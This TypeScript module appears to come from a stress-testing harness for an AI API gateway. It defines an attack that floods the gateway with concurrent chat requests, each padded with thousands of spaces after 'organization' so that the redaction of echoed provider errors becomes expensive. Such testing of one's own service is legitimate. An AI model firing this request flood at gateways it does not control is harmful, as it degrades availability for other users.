import { repeatRequests } from '../repeat-requests.js';
import type { StartAttack } from '../attack.js';
import { REPEAT } from '../repeating-provider.js';
import { CHAT } from '../request-heads.js';

const AT_ONCE = 40;
const EVERY_MS = 100;
/** About the length up to which the gateway processes a provider's message. */
const SPACES = 3_980;

/**
 * Requests whose text the provider repeats in its error. The text has a long run of spaces after a
 * word that the redaction of error messages searches for.
 */
export const expensiveErrors: StartAttack = ({ edgePort, secret, modelId }, bounds) => {
  const content = `${REPEAT}organization${' '.repeat(SPACES)}!`;
  const body = JSON.stringify({ model: modelId, messages: [{ role: 'user', content }] });
  const headers = { authorization: `Bearer ${secret}` };
  const question = () => ({ port: edgePort, method: 'POST' as const, path: CHAT, headers, body });
  return repeatRequests({ atOnce: AT_ONCE, everyMs: EVERY_MS, question }, bounds);
};
